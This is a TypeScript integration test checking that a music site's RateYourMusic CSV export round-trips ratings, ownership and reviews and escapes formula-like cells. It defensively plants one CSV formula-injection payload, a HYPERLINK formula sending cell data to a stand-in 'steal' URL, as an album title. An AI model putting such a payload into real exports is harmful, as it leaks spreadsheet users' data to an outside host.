import { EXPORT_FILES } from '@hearsay/contracts/data-export';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/app.ts';
import { downloadExport, exportData } from '../../../test/exports.ts';
import { buildAlbum } from '../../../test/factories.ts';
import { importExport } from '../../../test/imports.ts';
import { requestsTo } from '../../../test/requests.ts';
import { createUser, type TestUser } from '../../../test/users.ts';

/** A member brings a RateYourMusic export to site A, rates more there, downloads their data and takes it to site B. */
let siteA: TestApp;
let siteB: TestApp;
const onA = requestsTo(() => siteA);

beforeAll(async () => {
  [siteA, siteB] = await Promise.all([createTestApp(), createTestApp()]);
});
afterAll(() => Promise.all([siteA.close(), siteB.close()]));

const HEADER =
  'RYM Album, First Name,Last Name,First Name localized, Last Name localized,Title,Release_Date,Rating,Ownership,Purchase Date,Media Type, Review,Review Title';
const quoted = (fields: string[]) => fields.map((field) => `"${field.replace(/"/g, '""')}"`).join(',');

const FORMATTED =
  '[b]Loud[/b] then [i]quiet[/i], and the [u]third[/u] song says why: [url=https://example.org/notes]my notes[/url] on it.\n\nThe second side is [s]filler[/s] the best of it.';
/** A cell a spreadsheet would run, and real titles and names that begin like one. */
const FORMULA = '=HYPERLINK("https://example.com/steal?"&A1,"Click")';

type Cells = Record<string, string>;
const rowsOf = (csv: string): Cells[] =>
  (parse(csv, { columns: (header: string[]) => header.map((name) => name.trim()), bom: true }) as Cells[]).map((row) => row);

async function ratings(t: TestApp, person: TestUser) {
  const response = await t.inject({ method: 'GET', url: '/api/me/ratings?limit=100', headers: { cookie: person.cookie } });
  return (response.json().items as { album: { title: string; artistCredit: string }; rating: number }[])
    .map((item) => [item.album.artistCredit, item.album.title, item.rating])
    .sort();
}

/** A member's owned, wished-for and once-owned albums, with the medium. */
async function owned(t: TestApp, person: TestUser) {
  const all = [];
  for (const status of ['owned', 'wishlist', 'used_to_own']) {
    const response = await t.inject({ method: 'GET', url: `/api/me/owned?status=${status}&limit=100`, headers: { cookie: person.cookie } });
    for (const item of response.json().items as {
      album: { title: string; artistCredit: string };
      ownership: { status: string; mediaType: string | null };
    }[]) {
      all.push([item.album.artistCredit, item.album.title, item.ownership.status, item.ownership.mediaType]);
    }
  }
  return all.sort();
}

describe('the RateYourMusic CSV of Download my data', () => {
  it("carries RateYourMusic's ids and review markup, writes formula-like cells as text, and imports back as it was", async () => {
    await buildAlbum(siteA.db, { title: 'Spiderland', artist: 'Slint', releaseDate: '1991' });
    const plus = await buildAlbum(siteA.db, { title: '+', artist: 'Ed Sheeran', releaseDate: '2011' });
    const m = await buildAlbum(siteA.db, { title: 'Qui de nous deux', artist: '-M-', releaseDate: '2003' });
    const planted = await buildAlbum(siteA.db, { title: FORMULA, artist: '@Mention', releaseDate: '2020' });

    const member = await createUser(siteA);
    const imported = [
      ['1234', '', 'Slint', '', '', 'Spiderland', '1991', '9', 'o', '', 'CD', FORMATTED, 'Both sides'],
      ['88771', '', 'Hypothetical Trio', '', '', 'Never Catalogued', '2019', '6', '', '', 'Digital', '', ''],
      ['5550', '', 'Wish Band', '', '', 'Someday', '2001', '0', 'w', '', 'Vinyl', '', ''],
      ['6001', '', 'Sold Band', '', '', 'Gone Now', '1999', '7', 'u', '', 'Cassette', '', ''],
      ['6002', '', 'Shelf Band', '', '', 'Owned Unrated', '2004', '0', 'o', '', 'LP', '', ''],
    ];
    const job = await importExport(siteA, member, [HEADER, ...imported.map(quoted)].join('\r\n'));
    expect(job.summary).toMatchObject({ ratingsImported: 3, reviewsImported: 1, listenLater: 1, skipped: 0 });
    await onA.act('PUT', `/api/albums/${plus}/rating`, member, { rating: 8 });
    await onA.act('PUT', `/api/albums/${m}/rating`, member, { rating: 7 });
    await onA.act('PUT', `/api/albums/${planted}/rating`, member, { rating: 5 });

    const done = await exportData(siteA, member);
    const { files } = await downloadExport(siteA, member, done.id);
    const rym = rowsOf(files[EXPORT_FILES.rym]!);
    const byTitle = new Map(rym.map((row) => [row.Title, row]));

    // Each imported line comes back with its id, rating, ownership, medium and review as RateYourMusic wrote them (a
    // medium without an ownership says nothing of a copy, and is not kept).
    for (const [id, , artist, , , title, year, rating, ownership, , mediaType, review, reviewTitle] of imported) {
      expect(byTitle.get(title!)).toMatchObject({
        'RYM Album': id,
        'Last Name': artist,
        Release_Date: year,
        Rating: rating === '0' ? '' : rating,
        Ownership: ownership,
        'Media Type': ownership ? mediaType : '',
        Review: review,
        'Review Title': reviewTitle,
      });
    }
    // Albums rated here have no RateYourMusic id, and never one of Hearsay's; formula-like cells start with a quote.
    expect(byTitle.get("'+")).toMatchObject({ 'RYM Album': '', 'Last Name': 'Ed Sheeran', Rating: '8' });
    expect(byTitle.get('Qui de nous deux')).toMatchObject({ 'RYM Album': '', 'Last Name': "'-M-", Rating: '7' });
    expect(byTitle.get(`'${FORMULA}`)).toMatchObject({ 'RYM Album': '', 'Last Name': "'@Mention", Rating: '5' });
    for (const name of [EXPORT_FILES.rym, EXPORT_FILES.ratings, EXPORT_FILES.diary]) {
      for (const row of rowsOf(files[name]!)) for (const cell of Object.values(row)) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rowsOf(files[EXPORT_FILES.ratings]!).map((row) => row.Name)).toEqual(expect.arrayContaining(["'+", `'${FORMULA}`]));

    // On site B, the same CSV gives every title, name, rating and review back exactly.
    const arriving = await createUser(siteB);
    const again = await importExport(siteB, arriving, files[EXPORT_FILES.rym]!, 'rateyourmusic.csv');
    expect(again.summary).toMatchObject({ ratingsImported: 6, reviewsImported: 1, listenLater: 1, skipped: 0 });
    expect(await ratings(siteB, arriving)).toEqual(await ratings(siteA, member));
    expect(await owned(siteB, arriving)).toEqual(await owned(siteA, member));
    expect(await owned(siteB, arriving)).toEqual([
      ['Shelf Band', 'Owned Unrated', 'owned', 'LP'],
      ['Slint', 'Spiderland', 'owned', 'CD'],
      ['Sold Band', 'Gone Now', 'used_to_own', 'Cassette'],
      ['Wish Band', 'Someday', 'wishlist', 'Vinyl'],
    ]);
    const reviewOn = async (t: TestApp, person: TestUser) =>
      (await t.inject({ method: 'GET', url: '/api/me/reviews?limit=10', headers: { cookie: person.cookie } })).json().items[0];
    const [reviewA, reviewB] = [await reviewOn(siteA, member), await reviewOn(siteB, arriving)];
    expect(reviewA.contentHtml).toContain('<strong>Loud</strong>');
    expect(reviewA.contentHtml).toContain('>my notes</a>');
    expect({ title: reviewB.title, html: reviewB.contentHtml }).toEqual({ title: reviewA.title, html: reviewA.contentHtml });
    // Importing it a second time changes nothing, lines without an id included.
    expect((await importExport(siteB, arriving, files[EXPORT_FILES.rym]!, 'rateyourmusic.csv')).summary).toMatchObject({
      unchanged: 8,
      ratingsImported: 0,
    });
  }, 120_000);
});
